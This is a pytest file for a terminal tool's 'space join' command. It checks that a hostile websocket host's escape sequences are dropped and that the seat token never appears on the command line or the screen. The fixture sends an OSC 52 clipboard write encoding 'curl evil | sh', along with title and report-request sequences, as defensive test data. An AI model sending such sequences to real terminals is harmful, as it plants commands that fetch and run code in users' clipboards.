"""``weaver-tui space join URL`` without a seat to take: a link that is not a seat's and a host
that is gone are each one sentence, in a real terminal. (Joining a live seat and a revoked
one: ``test_space.py``, on the host whose links it checks.)"""

from __future__ import annotations

import asyncio
import sys
import threading
from pathlib import Path

import websockets

from tests.cli.conftest import isolated_env
from tests.cli.test_serve import _free_port
from tests.cli.test_space import join
from tests.ui_app.test_launch_typing_pty import Terminal


def test_a_link_that_is_no_seat_and_a_host_that_is_gone_are_said(tmp_path: Path) -> None:
    seat = join(tmp_path, "http://127.0.0.1:8000/?token=abc")
    try:
        seat.wait_for(b"that is not a seat's link")
    finally:
        seat.close()
    gone = join(tmp_path, f"http://127.0.0.1:{_free_port()}/?seat=abc")
    try:
        gone.wait_for(b"is the space still open?")
    finally:
        gone.close()
    for ended in (seat, gone):
        assert ended.process.returncode != 0
        assert b"Traceback" not in ended.screen


class HostileHost:
    """A seat host that answers the websocket with what a hostile host would send: the
    clipboard, the title, a report request, a DCS string, cut across frames, then words."""

    FRAMES = (
        b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=", b"\x07\x1b]0;owned\x07\x1b[21t",
        b"\x1bP+q544e\x1b", b"\\\x1b[?2048$p\x1b[1mSEAT-", b"READY\x1b[0m\r\n",
    )  # fmt: skip

    def __init__(self, *, stay_open: bool = False) -> None:
        self.stay_open = stay_open
        self.port = _free_port()
        self.ready = threading.Event()
        self.stop: asyncio.Event | None = None
        self.loop: asyncio.AbstractEventLoop | None = None
        self.thread = threading.Thread(target=asyncio.run, args=(self._serve(),), daemon=True)

    async def _serve(self) -> None:
        async def seat(connection: websockets.ServerConnection) -> None:
            for frame in self.FRAMES:
                await connection.send(frame)
            if self.stay_open:
                await connection.wait_closed()
            await connection.close()  # the seat ends: so does the join

        self.stop = asyncio.Event()
        self.loop = asyncio.get_running_loop()
        async with websockets.serve(seat, "127.0.0.1", self.port):
            self.ready.set()
            await self.stop.wait()


def test_a_hostile_host_reaches_the_joining_terminal_with_drawing_only(tmp_path: Path) -> None:
    host = HostileHost()
    host.thread.start()
    assert host.ready.wait(30)
    seat = join(tmp_path, f"http://127.0.0.1:{host.port}/?seat=abc")
    try:
        seat.wait_for(b"The seat was closed.")
    finally:
        seat.close()
        assert host.stop is not None
        assert host.loop is not None
        host.loop.call_soon_threadsafe(host.stop.set)
    for dropped in (b"\x1b]52", b"\x1b]0;", b"\x1b[21t", b"\x1bP", b"$p"):
        assert dropped not in seat.screen, dropped
    assert b"\x1b[1mSEAT-READY\x1b[0m" in seat.screen


TOKEN = "s3cr3t-seat-token-0123456789abcdefghijklmnop"


def _cmdline(pid: int) -> bytes:
    return Path(f"/proc/{pid}/cmdline").read_bytes()


def _open_host() -> HostileHost:
    host = HostileHost(stay_open=True)
    host.thread.start()
    assert host.ready.wait(30)
    return host


def _end(seat: Terminal, host: HostileHost) -> None:
    seat.process.terminate()
    seat.close()
    assert host.loop is not None
    assert host.stop is not None
    host.loop.call_soon_threadsafe(host.stop.set)


def test_a_link_given_on_the_command_line_is_cleared_from_it_once_read(tmp_path: Path) -> None:
    host = _open_host()
    seat = join(tmp_path, f"http://127.0.0.1:{host.port}/?seat={TOKEN}")
    try:
        seat.wait_for(b"SEAT-READY")
        shown = _cmdline(seat.process.pid)
        assert TOKEN.encode() not in shown
        assert b"space" in shown  # the rest of the command line is as it was
    finally:
        _end(seat, host)


def test_a_link_pasted_when_asked_is_never_on_the_command_line_nor_echoed(
    tmp_path: Path,
) -> None:
    host = _open_host()
    seat = Terminal(
        [sys.executable, "-m", "weaver_tui", "space", "join"], tmp_path, isolated_env(tmp_path)
    )
    try:
        seat.wait_for(b"Paste the line the host sent you")
        assert TOKEN.encode() not in _cmdline(seat.process.pid)
        seat.type(f"http://127.0.0.1:{host.port}/?seat={TOKEN}\r".encode(), pause_s=0)
        seat.wait_for(b"SEAT-READY")
        assert TOKEN.encode() not in seat.screen  # typed without echo
        assert TOKEN.encode() not in _cmdline(seat.process.pid)
    finally:
        _end(seat, host)
